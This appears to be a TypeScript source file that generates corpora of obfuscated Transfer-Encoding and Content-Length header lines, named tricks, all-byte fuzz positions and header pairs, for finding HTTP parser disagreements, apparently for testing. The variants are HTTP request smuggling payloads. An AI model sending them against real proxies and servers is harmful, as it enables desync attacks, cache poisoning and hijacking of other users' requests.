/**
 * Ways to hide `Transfer-Encoding: chunked` from one of two readers. The public corpora of such gadgets (three lists,
 * 1,768 in all) are generated here by class: named tricks, every byte in every position, and lines in pairs.
 */

export interface Gadget {
  readonly name: string;
  /** Header lines unchanged, without the last line end. */
  readonly lines: string;
}

const TE = 'Transfer-Encoding';

const NAMED: Readonly<Record<string, string>> = {
  'space before the name': ` ${TE}: chunked`,
  'tab before the name': `\t${TE}: chunked`,
  'tab before the value': `${TE}:\tchunked`,
  'tabs around the colon': `${TE}\t:\tchunked`,
  'space in the name': 'Transfer Encoding: chunked',
  'underscore in the name': 'Transfer_Encoding: chunked',
  'no hyphen': 'TransferEncoding: chunked',
  'space before the colon': `${TE} : chunked`,
  'two spaces': `${TE}:  chunked`,
  'no space': `${TE}:chunked`,
  'vertical tab': `${TE}:\x0bchunked`,
  'NUL behind': `${TE}: chunked\x00`,
  'coding behind': `${TE}: chunked, cow`,
  'coding before': `${TE}: cow, chunked`,
  'identity behind': `${TE}: chunked, identity`,
  'identity before': `${TE}: identity, chunked`,
  'gzip before': `${TE}: gzip, chunked`,
  'identity alone': `${TE}: identity`,
  'gzip alone': `${TE}: gzip`,
  'chunked twice': `${TE}: chunked, chunked`,
  'comma before': `${TE}: ,chunked`,
  'comma behind': `${TE}: chunked,`,
  'semicolon behind': `${TE}: chunked;q=1`,
  parameter: `${TE}: chunked;foo=bar`,
  'x before': `${TE}: xchunked`,
  'x behind': `${TE}: chunkedx`,
  'cut short': `${TE}: chunk`,
  'in quotes': `${TE}: "chunked"`,
  'in apostrophes': `${TE}: 'chunked'`,
  'in brackets': `${TE}: [chunked]`,
  nested: `${TE}: cow chunked bar`,
  empty: `${TE}:`,
  'another case': 'TrAnSFer-EnCODinG: cHuNkeD',
  loud: 'TRANSFER-ENCODING: CHUNKED',
  'folded by CRLF': `${TE}:\r\n chunked`,
  'folded by CRLF and tab': `${TE}:\r\n\tchunked`,
  'folded by LF': `${TE}:\n chunked`,
  'folded by CR': `${TE}:\r chunked`,
  'folded twice': `${TE}:\r\n \r\n chunked`,
  'folded behind': `${TE}: chunked\r\n ,identity`,
  'folded onto another field': `X-A: b\r\n ${TE}: chunked`,
  'CR behind': `${TE}: chunked\r`,
  'CR in the name': `Transfer\r-Encoding: chunked`,
  'after a bare CR': `X: X\r${TE}: chunked`,
  'after a bare LF': `X: X\n${TE}: chunked`,
  'behind LF CR': `X: X\n\r${TE}: chunked`,
  'after an empty name': `: x\r\n${TE}: chunked`,
  'after a line without a colon': `X\r\n${TE}: chunked`,
  'no colon': `${TE} chunked`,
  'accented name': `Transf\x82r-Encoding: chunked`,
  'accented value': `${TE}: ch\x96nked`,
  'UTF-8 mark before': `\xef\xbb\xbf${TE}: chunked`,
  'another field': 'Content-Encoding: chunked',
  TE: 'TE: chunked',
  'X-': 'X-Transfer-Encoding: chunked',
  proxy: 'Proxy-Transfer-Encoding: chunked',
  'named by Connection': `Connection: Transfer-Encoding\r\n${TE}: chunked`,
  'named by Connection, close': `Connection: close, transfer-encoding\r\n${TE}: chunked`,
  'length named by Connection': 'Connection: Content-Length',
  'trailer that names it': `Trailer: ${TE}`,
};

/** Positions around and inside the field where one more byte may be. */
const POSITIONS: Readonly<Record<string, (byte: string) => string>> = {
  'before the name': (byte) => `${byte}${TE}: chunked`,
  'in the name': (byte) => `Transfer${byte}Encoding: chunked`,
  'behind the name': (byte) => `${TE}${byte}: chunked`,
  'before the value': (byte) => `${TE}:${byte}chunked`,
  'behind a space': (byte) => `${TE}: ${byte}chunked`,
  'in the value': (byte) => `${TE}: chun${byte}ked`,
  'behind the value': (byte) => `${TE}: chunked${byte}`,
  'before the line end': (byte) => `X: y${byte}\r\n${TE}: chunked`,
};

const every = Array.from({ length: 256 }, (_, code) => String.fromCharCode(code));
const hex = (byte: string): string => byte.charCodeAt(0).toString(16).padStart(2, '0');

export const named: readonly Gadget[] = Object.entries(NAMED).map(([name, lines]) => ({ name, lines }));

export const bytewise: readonly Gadget[] = Object.entries(POSITIONS).flatMap(([where, lines]) =>
  every.map((byte) => ({ name: `${hex(byte)} ${where}`, lines: lines(byte) })),
);

/** The gadgets that some reader may read as the field, in pairs. Another question is which of two lines counts. */
const PAIRED = [
  `${TE}: chunked`,
  `${TE}: identity`,
  `${TE}: cow`,
  `${TE}:`,
  `${TE}:chunked`,
  `${TE}: \x0bchunked`,
  `${TE}: chunked, cow`,
  `${TE}: cow, chunked`,
  `${TE}: xchunked`,
  `${TE} : chunked`,
  ` ${TE}: chunked`,
  'Transfer_Encoding: chunked',
  'Transfer-encoding: CHUNKED',
  'X-Transfer-Encoding: chunked',
  'Content-Encoding: chunked',
  `${TE}:\n chunked`,
  `${TE}: "chunked"`,
  'Content-Length: 0',
  'Content-Length: 5',
  'Content_Length: 0',
];

export const doubles: readonly Gadget[] = PAIRED.flatMap((first) =>
  PAIRED.map((second) => ({ name: JSON.stringify([first, second]), lines: `${first}\r\n${second}` })),
);
